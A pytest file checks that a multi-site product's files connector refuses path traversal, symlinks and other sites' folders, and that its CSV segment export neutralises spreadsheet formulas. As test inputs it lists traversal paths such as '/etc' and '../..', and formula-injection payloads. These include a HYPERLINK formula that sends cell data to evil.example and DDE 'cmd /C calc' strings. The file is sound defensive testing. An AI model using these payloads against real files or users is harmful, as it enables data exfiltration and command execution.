"""The files root: a connector reads and writes only inside its site's own folder on the server.

The tester's report: an editor of site A pointed a files connection at site B's export folder and
synced B's contacts into A; ``/etc``, ``~`` and ``../..`` were accepted, *Test* listed the folder's
files, and the segment push wrote a CSV wherever it was asked to. Here: the path rules of the
contract (``SiteFolder``), symbolic links placed inside the root, and the same attempts through
``save_connection``, the admin pages and the command line.
"""

from __future__ import annotations

import csv
import os
import re

import pytest

from personalize.connectors import ConfigError, SiteFolder, relative_folder
from personalize.records import SegmentChange

# --- the contract: SiteFolder -------------------------------------------------------------------


@pytest.fixture
def outside(tmp_path):
    """A folder outside every site's root, with a file nobody may read or overwrite through a connector."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "contacts.csv").write_text("email\nsecret@other-site.example\n")
    return folder


@pytest.fixture
def root(tmp_path):
    root = tmp_path / "files" / "1"
    (root / "exports").mkdir(parents=True)
    (root / "exports" / "contacts.csv").write_text("email\nann@example.com\n")
    return root


@pytest.mark.parametrize("value", ["/etc", "/", "~", "~/exports", "~root", "..", "../..", "../2/exports", "exports/../../x",
                                   "a/b/../../..", "exports\\..\\..", "x\x00y", "x\ny"])
def test_paths_that_leave_the_root_are_refused(value):
    with pytest.raises(ValueError):
        relative_folder(value)


def test_relative_paths_are_normalised():
    assert str(relative_folder("exports")) == "exports"
    assert str(relative_folder("./exports//daily/")) == "exports/daily"
    assert str(relative_folder("")) == "." and str(relative_folder(None)) == "."


def test_a_folder_inside_the_root_is_read(root):
    folder = SiteFolder(root, "exports")
    assert folder.exists() and folder.files() == ["contacts.csv"]
    assert folder.read_text("contacts.csv") == "email\nann@example.com\n"
    assert folder.has_file("contacts.csv") and not folder.has_file("orders.csv")


def test_a_symlinked_folder_inside_the_root_is_not_followed(root, outside):
    os.symlink(outside, root / "linked")
    os.symlink(root / "exports", root / "inner-link")  # even a link that stays inside is not followed
    for name in ("linked", "inner-link", "linked/deeper"):
        folder = SiteFolder(root, name)
        assert not folder.exists()
        with pytest.raises(ConfigError, match="symbolic link or not a folder"):
            folder.files()
        with pytest.raises(ConfigError):
            folder.read_text("contacts.csv")
        with pytest.raises(ConfigError):
            folder.write_atomic("segment_members.csv", "x")
    assert sorted(os.listdir(outside)) == ["contacts.csv"]


def test_a_symlinked_file_is_never_read_and_a_link_written_over_is_replaced_not_followed(root, outside):
    folder = SiteFolder(root, "exports")
    os.symlink(outside / "contacts.csv", root / "exports" / "orders.csv")
    os.symlink(outside / "contacts.csv", root / "exports" / "segment_members.csv")
    os.mkfifo(root / "exports" / "engagement.csv")
    assert folder.files() == ["contacts.csv"], "links and pipes are not listed"
    with pytest.raises(ConfigError, match="orders.csv is a symbolic link"):
        folder.has_file("orders.csv")
    with pytest.raises(ConfigError, match="not a regular file"):
        folder.has_file("engagement.csv")
    with pytest.raises(ConfigError, match="symbolic link"):
        folder.read_text("orders.csv")
    folder.write_atomic("segment_members.csv", "segment\nvip\n")
    assert (outside / "contacts.csv").read_text() == "email\nsecret@other-site.example\n", "the link's target is untouched"
    assert not (root / "exports" / "segment_members.csv").is_symlink()
    assert (root / "exports" / "segment_members.csv").read_text() == "segment\nvip\n"
    for name in ("../x", "a/b", "", ".."):
        with pytest.raises(ValueError):
            folder.write_atomic(name, "x")


def test_the_roots_own_link_is_the_operators_choice(tmp_path, outside):
    """FILES_ROOT/<site id> may itself be a link the operator made (a mounted drive)."""
    (tmp_path / "files").mkdir()
    os.symlink(outside, tmp_path / "files" / "7")
    assert SiteFolder(tmp_path / "files" / "7").files() == ["contacts.csv"]


# --- through the product ------------------------------------------------------------------------


@pytest.fixture
def two_sites(ctx):
    """Sites A and B, each with an exports folder of contacts in its own files root."""
    from personalize.sites import create_site
    from personalize.sync.connections import site_files_root

    sites = {}
    for name in ("A", "B"):
        site, _ = create_site(f"Shop {name}")
        folder = site_files_root(site.id) / "exports"
        folder.mkdir(parents=True)
        (folder / "contacts.csv").write_text(f"id,email\n1,customer@shop-{name.lower()}.example\n")
        sites[name] = site
    return sites


def test_site_roots_live_under_files_root(app, two_sites):
    from personalize.sync.connections import site_files_root

    a, b = two_sites["A"], two_sites["B"]
    assert site_files_root(a.id).parent == site_files_root(b.id).parent
    assert str(site_files_root(a.id)) == os.path.join(os.path.realpath(app.instance_path), "files", str(a.id))
    app.config["FILES_ROOT"] = str(app.instance_path) + "/elsewhere"
    assert str(site_files_root(a.id)) == os.path.join(os.path.realpath(app.instance_path), "elsewhere", str(a.id))


def test_another_sites_folder_and_paths_outside_are_refused_on_save(two_sites, outside):
    from personalize.sync.connections import (
        ConnectionSettingsError,
        save_connection,
        site_files_root,
    )

    a, b = two_sites["A"], two_sites["B"]
    for value in (str(site_files_root(b.id) / "exports"), f"../{b.id}/exports", "/etc", "~", "~/exports", "../..", str(outside)):
        with pytest.raises(ConnectionSettingsError, match=re.escape(f"this site's files folder on the server is {site_files_root(a.id)}")) as info:
            save_connection(a.id, "files", {"folder": value})
        assert info.value.field == "folder"


def test_a_link_to_another_sites_folder_syncs_nothing_from_it(two_sites):
    from personalize.db import db
    from personalize.models import Identity
    from personalize.sync import engine
    from personalize.sync.connections import save_connection, site_files_root

    a, b = two_sites["A"], two_sites["B"]
    os.symlink(site_files_root(b.id) / "exports", site_files_root(a.id) / "from-b")
    save_connection(a.id, "files", {"folder": "from-b"})
    summary = engine.run_sync(a.id, "files")
    assert summary["status"] == "failed" and "symbolic link or not a folder" in summary["message"]
    emails = db.session.scalars(db.select(Identity.value).where(Identity.site_id == a.id, Identity.kind == "email")).all()
    assert emails == []
    save_connection(a.id, "files", {"folder": "exports"})
    assert engine.run_sync(a.id, "files")["status"] == "succeeded"
    emails = db.session.scalars(db.select(Identity.value).where(Identity.site_id == a.id, Identity.kind == "email")).all()
    assert emails == ["customer@shop-a.example"], "only site A's own file"


def test_a_path_stored_before_the_root_existed_is_refused_when_used(two_sites):
    """A connection saved by an older version (an absolute folder) or changed in the database: refused at use."""
    from personalize.admin.connectors import check_connection
    from personalize.db import db
    from personalize.sync import engine
    from personalize.sync.connections import get_connection, save_connection, site_files_root

    a, b = two_sites["A"], two_sites["B"]
    conn = save_connection(a.id, "files", {"folder": "exports"}, push_target="file")
    conn.settings = {"folder": str(site_files_root(b.id) / "exports")}
    db.session.commit()
    ok, message = check_connection(get_connection(a.id, "files"))
    assert not ok and "is an absolute path" in message and "customer@shop-b" not in message and "contacts.csv" not in message
    assert engine.run_sync(a.id, "files")["status"] == "failed"
    from personalize.profiles.identity import profiles_for_visitors
    from personalize.sync.push import push_changes

    pid = profiles_for_visitors(a.id, ["v1"])["v1"]
    db.session.commit()
    pushed = push_changes(a.id, "files", "file", [SegmentChange("vip", pid, True, {"email": "x@example.com"})])
    assert pushed["status"] == "failed"
    assert sorted(os.listdir(site_files_root(b.id) / "exports")) == ["contacts.csv"], "nothing written into B's folder"


def test_the_admin_page_shows_the_root_and_refuses_paths_outside(app, two_sites, client):
    from admin.conftest import make_user, post, sign_in
    from personalize.sync.connections import site_files_root

    a = two_sites["A"]
    make_user("editor@example.com", "editor", [a.id])
    sign_in(client, "editor@example.com")
    form = client.get(f"/admin/sites/{a.id}/connectors/new/files").get_data(as_text=True)
    assert f"<code>{site_files_root(a.id)}</code>" in form and "symbolic links are refused" in form
    for value, said in (("/etc", "Folder: /etc is an absolute path"), ("~", "Folder: ~ starts with ~"), ("../..", "Folder: ../.. goes up with .."),
                        (f"../{two_sites['B'].id}/exports", "goes up with ..")):
        page = post(client, f"/admin/sites/{a.id}/connectors/new/files", {"name": "files", "setting_folder": value, "enabled": "1"})
        assert page.status_code == 400 and said in page.get_data(as_text=True), value
    assert post(client, f"/admin/sites/{a.id}/connectors/new/files", {"name": "files", "setting_folder": "exports", "enabled": "1"}).status_code == 302
    tested = post(client, f"/admin/sites/{a.id}/connectors/files/test", follow_redirects=True).get_data(as_text=True)
    assert f"{site_files_root(a.id) / 'exports'}: contacts.csv" in tested


def test_the_cli_tells_the_operator_where_the_root_is(runner, tmp_path):
    from personalize.cli import cli

    assert runner.invoke(cli, ["create-site", "CLI shop"]).exit_code == 0
    refused = runner.invoke(cli, ["connect", "CLI shop", "files", "--set", "folder=/etc"])
    assert refused.exit_code == 1
    assert re.search(r"folder: /etc is an absolute path; give a folder inside this site's files folder.*files folder on the server is \S+/files/1",
                     refused.output)
    out = runner.invoke(cli, ["connect", "CLI shop", "files", "--set", "folder=exports/daily"]).output
    root = re.search(r"files folder of this site: (\S+)", out).group(1)
    assert root.endswith("/files/1") and os.path.isdir(root), "the site's folder is created for the operator"
    assert f"folder: put the files in {root}/exports/daily" in out


# --- CSV written by the product -----------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1"]


def test_the_segment_push_never_writes_a_formula(two_sites):
    """Emails, customer ids and segment keys come from shops, connectors and visitors: any of them may
    start with a formula. The file is read back as a spreadsheet would see it."""
    from personalize.db import db
    from personalize.profiles.identity import profiles_for_visitors
    from personalize.sync.connections import save_connection, site_files_root
    from personalize.sync.push import push_changes

    a = two_sites["A"]
    save_connection(a.id, "files", {"folder": "exports"}, push_target="file")
    ids = profiles_for_visitors(a.id, [f"v{i}" for i in range(len(FORMULAS) + 1)])
    db.session.commit()
    pid = [ids[f"v{i}"] for i in range(len(FORMULAS) + 1)]
    changes = [SegmentChange(f"seg{i}", pid[i], True, {"email": formula, "customer_id": formula}) for i, formula in enumerate(FORMULAS)]
    changes.append(SegmentChange("=cmd", pid[-1], True, {"email": "ann@example.com", "customer_id": "-12.5"}))
    assert push_changes(a.id, "files", "file", changes)["status"] == "succeeded"
    path = site_files_root(a.id) / "exports" / "segment_members.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values()]
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r\uff1d" and c != "-12.5"]
    assert dangerous == [], dangerous
    by_id = {int(row["profile_id"]): row for row in rows}
    assert by_id[pid[0]]["email"] == "'" + FORMULAS[0] and by_id[pid[4]]["customer_id"] == "'\t=1+1"
    assert by_id[pid[-1]]["segment"] == "'=cmd" and by_id[pid[-1]]["customer_id"] == "-12.5", "a plain number stays a number"
    # a second push reads the file back and writes it again: nothing is quoted twice
    push_changes(a.id, "files", "file", [SegmentChange("seg0", pid[0], False, {"email": FORMULAS[0]})])
    with path.open(newline="", encoding="utf-8") as fh:
        again = {int(row["profile_id"]): row for row in csv.DictReader(fh)}
    assert pid[0] not in again and again[pid[1]]["email"] == "'" + FORMULAS[1]
